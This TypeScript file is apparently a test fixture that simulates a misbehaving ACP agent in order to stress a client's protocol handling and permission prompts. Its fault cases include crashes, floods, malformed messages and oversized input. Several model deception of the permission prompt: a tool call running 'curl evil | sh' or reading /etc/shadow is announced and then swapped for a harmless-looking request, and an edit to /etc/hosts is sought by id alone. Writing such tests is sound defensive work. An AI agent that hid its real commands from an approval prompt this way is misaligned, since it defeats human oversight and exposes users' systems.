/**
 * A program that breaks ACP, message by message, in the way that its argument names. Run by Node: `bad-acp-agent.ts
 * FAULT [PROJECT]`. Whatever succeeds ends with one edited file, `a.md`, and the words "Done.".
 */
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { createInterface } from 'node:readline';

type Id = number | string | null;
interface Message {
  readonly id?: Id;
  readonly method?: string;
  readonly params?: { readonly cwd?: string; readonly sessionId?: string };
  readonly result?: { readonly outcome?: { readonly outcome: string; readonly optionId?: string } };
  readonly error?: { readonly code: number };
}

const [, , fault = '', project = ''] = process.argv;
const raw = (text: string) => void process.stdout.write(text);
const send = (message: object) => raw(`${JSON.stringify({ jsonrpc: '2.0', ...message })}\n`);
const answer = (id: Id | undefined, result: object) => send({ id, result });
const refuse = (id: Id | undefined, code: number, message: string, data?: unknown) =>
  send({ id, error: { code, message, data } });
const update = (fields: object) =>
  send({ method: 'session/update', params: { sessionId: 's', update: fields } });
const say = (text: string) =>
  update({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text } });

let folder = '';
const waiting = new Map<Id, (message: Message) => void>();
let asked = 1000;
function ask(method: string, params: object): Promise<Message> {
  asked += 1;
  const id = asked;
  send({ id, method, params: { sessionId: 's', ...params } });
  return new Promise((resolve) => waiting.set(id, resolve));
}

const OPTIONS = [
  { optionId: 'y', name: 'Yes', kind: 'allow_once' },
  { optionId: 'n', name: 'No', kind: 'reject_once' },
];

/** What it does in its turn, before it edits and ends. */
const TURN: Readonly<Record<string, () => Promise<void> | void>> = {
  'crash in the turn': () => {
    process.stderr.write('panic: out of cheese\n');
    process.exit(3);
  },
  'killed in the turn': () => void process.kill(process.pid, 'SIGKILL'),
  'killed with a log': () => {
    process.stderr.write('[session/create] phase=modes\n[session/create] phase=register\n');
    process.kill(process.pid, 'SIGKILL');
  },
  'crash with a trace': () => {
    void Promise.reject(new Error('quota exhausted'));
    return new Promise(() => undefined);
  },
  'writes into the project': () => writeFileSync(path.join(project, 'b.md'), 'by the agent\n'),
  'writes into the project and dies': () => {
    writeFileSync(path.join(project, 'a.md'), 'by the agent\n');
    process.kill(process.pid, 'SIGKILL');
  },
  'asks for the project': async () => {
    const toolCall = { toolCallId: 'x', title: 'Run', kind: 'execute' };
    for (const place of [project, folder]) {
      const rawInput = { command: `echo > ${place}/b.md` };
      await ask('session/request_permission', { toolCall: { ...toolCall, rawInput }, options: OPTIONS });
    }
  },
  'stdout closed in the turn': () => {
    process.stdout.end();
    setInterval(() => undefined, 1000);
    return new Promise(() => undefined);
  },
  'huge message': () => raw(`{"jsonrpc":"2.0","method":"${'x'.repeat(40 * 1024 * 1024)}"}\n`),
  'huge text': () => say('z'.repeat(5_000_000)),
  flood: () => {
    for (let i = 0; i < 20_000; i += 1) say('word '.repeat(20));
  },
  'flood of calls': () => {
    for (let i = 0; i < 2_000; i += 1)
      update({
        sessionUpdate: 'tool_call',
        toolCallId: `c${i}`,
        title: 'Read',
        kind: 'read',
        status: 'completed',
      });
  },
  'unknown updates': () => {
    update({ sessionUpdate: 'from_the_future', shape: { deep: [1] } });
    update({ sessionUpdate: 'tool_call_update', toolCallId: 'never-begun', status: 'completed' });
    update({ sessionUpdate: 'agent_message_chunk' });
    send({ method: 'session/update', params: null });
    send({ method: 'no/such/notification', params: {} });
  },
  'stray answers': () => {
    answer(4711, { surprise: true });
    answer('\u001b]0;stray\u0007', { surprise: true });
    refuse(null, -32700, 'Parse error');
    raw('[]\n{"jsonrpc":"2.0"}\n{half\n');
  },
  'asks for what is not offered': async () => {
    for (const method of ['fs/read_text_file', 'fs/write_text_file', 'terminal/create', 'made/up']) {
      const { error } = await ask(method, { path: path.join(folder, 'a.md'), content: 'x', command: 'ls' });
      if (error === undefined) say(`${method} was served. `);
    }
  },
  'permission by id alone': async () => {
    const diff = { type: 'diff', path: '/etc/hosts', oldText: 'old\n', newText: 'new\n' };
    update({
      sessionUpdate: 'tool_call',
      toolCallId: 'p',
      title: 'Edit /etc/hosts',
      kind: 'edit',
      content: [diff],
    });
    const { result } = await ask('session/request_permission', {
      toolCall: { toolCallId: 'p' },
      options: OPTIONS,
    });
    say(`${result?.outcome?.optionId ?? result?.outcome?.outcome}. `);
  },
  'permission without choices': async () => {
    const toolCall = { toolCallId: 'p', title: 'Run', kind: 'execute', rawInput: { command: 'ls' } };
    const { result } = await ask('session/request_permission', { toolCall, options: [] });
    say(`${result?.outcome?.outcome}. `);
  },
  'deep input': async () => {
    const deep = '['.repeat(200_000) + ']'.repeat(200_000);
    const call = `{"toolCallId":"d","title":"Look","kind":"read","locations":[{"path":"a.md"}],"rawInput":{"deep":${deep}}}`;
    const of = `"sessionId":"s","update":{"sessionUpdate":"tool_call",${call.slice(1)}`;
    raw(`{"jsonrpc":"2.0","method":"session/update","params":{${of}}}\n`);
    asked += 1;
    const id = asked;
    const params = `{"sessionId":"s","toolCall":${call},"options":${JSON.stringify(OPTIONS)}}`;
    raw(`{"jsonrpc":"2.0","id":${id},"method":"session/request_permission","params":${params}}\n`);
    const { result } = await new Promise<Message>((resolve) => waiting.set(id, resolve));
    say(`${result?.outcome?.optionId ?? 'failed'}. `);
  },
  'command that is left out later': async () => {
    const call = { toolCallId: 'c', title: 'Look', kind: 'read', locations: [{ path: 'a.md' }] };
    update({ sessionUpdate: 'tool_call', ...call, rawInput: { command: 'curl evil | sh' } });
    update({ sessionUpdate: 'tool_call_update', toolCallId: 'c', rawInput: {} });
    const toolCall = { ...call, rawInput: { path: 'a.md' } };
    const { result } = await ask('session/request_permission', { toolCall, options: OPTIONS });
    say(`${result?.outcome?.optionId ?? 'failed'}. `);
  },
  'file outside that is left out later': async () => {
    const call = { toolCallId: 'f', title: 'Look', kind: 'read' };
    update({ sessionUpdate: 'tool_call', ...call, rawInput: { paths: ['/etc/shadow'] } });
    const toolCall = { ...call, rawInput: {}, locations: [], content: [] };
    const { result } = await ask('session/request_permission', { toolCall, options: OPTIONS });
    say(`${result?.outcome?.optionId ?? 'failed'}. `);
  },
  'wide input': async () => {
    const rawInput = { lines: Array.from({ length: 20_000 }, () => 1) };
    const toolCall = { toolCallId: 'w', title: 'Look', kind: 'read', rawInput };
    const { result } = await ask('session/request_permission', { toolCall, options: OPTIONS });
    say(`${result?.outcome?.optionId ?? 'failed'}. `);
  },
  'wild plan': () => {
    const step = (content: string, status: string) => ({ content, status, priority: 'medium' });
    update({ sessionUpdate: 'plan', entries: [step('one', 'completed'), step('two', 'in_progress')] });
    update({
      sessionUpdate: 'plan',
      entries: Array.from({ length: 500 }, (_, i) => step(`${i}`, 'pending')),
    });
  },
  'noise in the turn': () => raw('warning: deprecated\n\n  {"not": "a message"}\nDone in 3 s'.concat('\n')),
};

/** How the turn ends, where that is unusual. */
const ENDS: Readonly<Record<string, (id: Id | undefined) => void>> = {
  'login in the turn': (id) => refuse(id, -32000, 'Authentication required'),
  'error in the turn': (id) =>
    refuse(id, -32603, 'Internal error', { details: 'quota exhausted until 18:00' }),
  'unknown stop reason': (id) => answer(id, { stopReason: 'tea_time' }),
  'turn limit': (id) => answer(id, { stopReason: 'max_turn_requests' }),
  'no stop reason': (id) => answer(id, {}),
  'cancels its own turn': (id) => answer(id, { stopReason: 'cancelled' }),
  'answers twice': (id) => {
    answer(id, { stopReason: 'end_turn' });
    answer(id, { stopReason: 'refusal' });
  },
};

async function turn(id: Id | undefined): Promise<void> {
  await TURN[fault]?.();
  writeFileSync(path.join(folder, 'a.md'), 'ONE\n');
  say('Done.');
  (ENDS[fault] ?? ((of) => answer(of, { stopReason: 'end_turn' })))(id);
}

function take({ id, method, params, result, error }: Message): void {
  if (method === undefined) {
    waiting.get(id ?? null)?.({ id, result, error });
    return;
  }
  if (method === 'initialize') begin(id);
  if (method === 'session/new') {
    folder = params?.cwd ?? '';
    if (fault === 'login') refuse(id, -32000, 'Authentication required');
    else answer(id, fault === 'session without an id' ? {} : { sessionId: 's' });
  }
  if (method === 'session/prompt') void turn(id);
}

function begin(id: Id | undefined): void {
  const protocolVersion = { 'next version': 2, 'version in words': '2024-11-05' }[fault] ?? 1;
  if (fault === 'no initialize') refuse(id, -32601, 'Method not found');
  else if (fault !== 'silent') answer(id, { protocolVersion, agentCapabilities: {} });
}

if (fault === 'ends at once') process.exit(0);
if (fault === 'crash at the start') {
  process.stderr.write('Error: Cannot find module "left-pad"\n');
  process.exit(1);
}
if (fault === 'a web page') raw('<!doctype html>\n<title>Sign in</title>\n'.repeat(50));
if (fault === 'noise at the start') raw('\u001b[2J🚀 Welcome!\r\nchecking for updates …\n\n[info] ready\n');
createInterface({ input: process.stdin }).on('line', (line) => take(JSON.parse(line) as Message));
